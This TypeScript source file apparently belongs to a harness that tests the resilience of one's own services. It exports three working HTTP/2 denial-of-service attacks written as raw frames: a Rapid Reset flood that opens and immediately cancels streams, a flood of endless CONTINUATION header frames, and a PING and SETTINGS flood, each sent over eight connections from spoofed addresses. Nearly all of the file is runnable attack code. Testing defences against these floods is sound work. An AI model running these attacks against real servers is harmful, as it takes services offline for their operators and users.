import type { Attack, Outcome, Targets } from "./attack.ts";
import { HostileSocket, strangerAddress } from "./hostile-socket.ts";

/** HTTP/2 as bytes (RFC 9113), at whoever speaks it before the services. */

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const types = { headers: 1, resetStream: 3, settings: 4, ping: 6, continuation: 9 } as const;
const flags = { endStream: 1, endHeaders: 4 } as const;

function frame(type: number, flag: number, streamId: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flag, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** RFC 7541: GET, https, `/` from the static table, and the authority as it is. */
const request = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from("localhost")]);

const connections = 8;

/**
 * Opens connections that speak HTTP/2, and hands each to `send` again and again while it stands; `send` returns how much that
 * was, which `say` puts into words.
 */
async function attack(
  { doors, seconds }: Targets,
  send: (socket: HostileSocket, round: number) => number,
  say: (sent: number) => string,
): Promise<Outcome> {
  const [door] = doors;
  if (door === undefined) throw new Error("no door");
  const sockets = Array.from(
    { length: connections },
    (_, i) => new HostileSocket(door, strangerAddress(i), { alpn: "h2" }),
  );
  for (const socket of sockets) socket.write(Buffer.concat([preface, frame(types.settings, 0, 0)]));
  const deadlineMs = performance.now() + seconds * 1000;
  let sent = 0;
  for (let round = 0; performance.now() < deadlineMs; round++) {
    for (const socket of sockets) if (socket.isOpen && socket.unsentBytes < 262_144) sent += send(socket, round);
    await Bun.sleep(5);
  }
  const stand = sockets.filter((socket) => socket.isOpen).length;
  // A server begins with its settings; whoever does not speak HTTP/2 says something else, or nothing.
  const spoke = sockets.filter(({ answer }) => answer.charCodeAt(3) === types.settings).length;
  for (const socket of sockets) socket.destroy();
  return {
    result: `${say(sent)} by ${connections} connections, ${spoke} of them in HTTP/2, ${stand} not cut`,
    isRight: spoke === connections && sent > 0,
  };
}

const perRound = 50;

export const http2Attacks: Attack[] = [
  {
    name: "HTTP/2: requests reset as they are sent",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      const ids = new Map<HostileSocket, number>();
      const send = (socket: HostileSocket): number => {
        const first = ids.get(socket) ?? 1;
        ids.set(socket, first + 2 * perRound);
        const frames = Array.from({ length: perRound }, (_, i) => first + 2 * i).flatMap((id) => [
          frame(types.headers, flags.endStream | flags.endHeaders, id, request),
          frame(types.resetStream, 0, id, Buffer.from([0, 0, 0, 8])),
        ]);
        socket.write(Buffer.concat(frames));
        return perRound;
      };
      return attack(targets, send, (sent) => `${sent} requests reset`);
    },
  },
  {
    name: "HTTP/2: headers that go on and on",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      // A literal that is not indexed: nothing of it is kept by the table.
      const field = Buffer.concat([
        Buffer.from([0, 1]),
        Buffer.from("x"),
        Buffer.from([127, 0x81, 0x7e]),
        Buffer.alloc(16_256, "y"),
      ]);
      const send = (socket: HostileSocket, round: number): number => {
        // Without END_HEADERS: more of them follow.
        if (round === 0) socket.write(frame(types.headers, flags.endStream, 1, request));
        socket.write(frame(types.continuation, 0, 1, field));
        return field.length;
      };
      return attack(targets, send, (sent) => `${(sent / 2 ** 20).toFixed(0)} MiB of headers`);
    },
  },
  {
    name: "HTTP/2: pings and settings",
    ways: ["Caddy"],
    seconds: 5,
    run: async (targets) => {
      const some = Buffer.concat(
        Array.from({ length: perRound }, () =>
          Buffer.concat([frame(types.ping, 0, 0, Buffer.alloc(8)), frame(types.settings, 0, 0)]),
        ),
      );
      const send = (socket: HostileSocket): number => {
        socket.write(some);
        return 2 * perRound;
      };
      return attack(targets, send, (sent) => `${sent} frames`);
    },
  },
];
